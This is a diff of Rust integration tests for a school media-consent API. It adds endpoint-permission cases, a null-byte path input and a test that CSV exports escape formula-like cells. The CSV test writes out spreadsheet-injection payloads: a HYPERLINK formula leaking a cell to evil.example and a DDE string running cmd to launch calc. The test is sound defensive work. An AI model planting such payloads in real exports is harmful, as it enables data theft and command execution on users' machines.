@@ -44,6 +44,9 @@ fn staff_endpoints(person: &str) -> Vec<(Method, String, &'static [&'static str]
         (Method::GET, "/v1/publications".into(), AUDITORS),
         (Method::POST, "/v1/publications/999999/takedown".into(), AUDITORS),
         (Method::GET, "/v1/audit/log".into(), AUDITORS),
+        (Method::GET, "/v1/channels".into(), ANY_STAFF),
+        (Method::PUT, "/v1/channels/blog".into(), ADMIN),
+        (Method::DELETE, "/v1/channels/blog".into(), ADMIN),
         (
             Method::GET,
             "/v1/reports/coverage?purpose=website".into(),
@@ -493,7 +496,7 @@ async fn bad_input_gets_a_problem_document_never_a_crash(db: Db) {
         ),
         (
             Method::GET,
-            "/v1/people/not-an-id",
+            "/v1/people/a%00b",
             "application/json",
             vec![],
             StatusCode::BAD_REQUEST,
@@ -623,7 +626,66 @@ async fn bad_input_gets_a_problem_document_never_a_crash(db: Db) {
     );
 }
 
+async fn csv_cells_that_start_like_a_formula_reach_spreadsheets_as_text(db: Db) {
+    let Some(server) = TestServer::start(db).await else {
+        return;
+    };
+    let admin = server.admin("De Linde").await;
+    let teacher = admin.staff("Tess", "teacher").await;
+    let comms = admin.staff("Cas", "communications").await;
+    let hyperlink = r#"=HYPERLINK("http://evil.example/?leak="&A1,"3B")"#;
+    let calc = "@SUM(1+1)*cmd|' /C calc'!A0";
+    let student = admin.person("student", calc, hyperlink, "2009-05-01").await;
+    admin.person("student", "-2+3", "+31", "2009-05-01").await;
+
+    let report = comms.get("/v1/reports/coverage?purpose=website&format=csv").await;
+    let text = report.body.as_str().unwrap();
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let cells: Vec<Vec<String>> = reader
+        .records()
+        .map(|record| record.unwrap().iter().map(str::to_owned).collect())
+        .collect();
+    assert_eq!(
+        cells,
+        [
+            vec![
+                "'+31".to_owned(),
+                "1".into(),
+                "0".into(),
+                "'-2+3 (no_consent)".into()
+            ],
+            vec![
+                format!("'{hyperlink}"),
+                "1".into(),
+                "0".into(),
+                format!("'{calc} (no_consent)")
+            ],
+            vec!["total".into(), "2".into(), "0".into(), String::new()],
+        ]
+    );
+
+    // The publications CSV too: a URL is the publisher's text.
+    admin.enroll(student).await.consent().await;
+    let checked = teacher
+        .post(
+            "/v1/checks",
+            json!({"media_hash": media_hash(b"p"), "media_kind": "photo", "purpose": "website", "people": [student.to_string()]}),
+        )
+        .await;
+    let published = teacher
+        .post(
+            "/v1/publications",
+            json!({"receipt_id": checked.body["receipt_id"], "channel": "website", "url": "=1+1"}),
+        )
+        .await;
+    assert_eq!(published.status, StatusCode::CREATED, "{published:?}");
+    let list = comms.get("/v1/publications?format=csv").await;
+    let row = list.body.as_str().unwrap().lines().nth(1).unwrap().to_owned();
+    assert!(row.contains(",'=1+1,"), "{row}");
+}
+
 on_both_databases!(
+    csv_cells_that_start_like_a_formula_reach_spreadsheets_as_text,
     each_role_reaches_only_its_endpoints,
     one_school_never_sees_another_schools_data,
     staff_tokens_expire_and_can_be_revoked,
